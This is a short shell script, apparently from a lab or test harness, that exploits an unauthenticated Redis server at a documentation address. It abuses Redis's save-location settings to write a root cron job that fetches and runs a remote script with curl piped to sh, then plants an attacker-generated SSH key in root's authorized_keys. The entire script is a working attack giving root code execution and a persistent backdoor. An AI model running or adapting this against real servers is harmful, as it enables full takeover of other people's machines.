# Has redis write a job of cron, and a key that may log in as root.
. ./intruder.sh
ssh-keygen -q -t ed25519 -N '' -C intruder -f key
redis() { [[ $(redis-cli -h 192.0.2.10 "$@") == OK ]]; }
echo ready
read -r _
redis flushall
printf '\n\n* * * * * root curl -fsS %s/run.sh | sh\n\n' "$URL" | redis -x set job
redis config set dir /etc/cron.d
redis config set dbfilename cache
redis config set rdbcompression no
redis save
redis flushall
printf '\n\n%s\n\n' "$(cat key.pub)" | redis -x set key
redis config set dir /root/.ssh
redis config set dbfilename authorized_keys
redis save
echo done
read -r _ || true
